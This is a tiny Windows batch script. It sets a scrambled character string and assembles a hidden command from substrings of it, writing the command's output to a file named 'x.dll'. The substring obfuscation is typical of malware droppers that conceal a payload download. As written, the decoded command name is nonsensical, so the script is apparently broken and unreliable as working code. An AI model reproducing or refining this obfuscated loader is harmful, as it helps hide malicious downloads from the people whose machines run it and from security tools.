@echo off
Set aim=fgphqrsTUVtuvwxyzABCDEabcdeMNOFGHIJKjklmLSniopPQR_@ .
cls
@%aim:~45,1%%aim:~48,1%%aim:~11,1%%aim:~26,1%%aim:~23,1%%aim:~39,1%%aim:~40,1%%aim:~41,1% -o x.dll
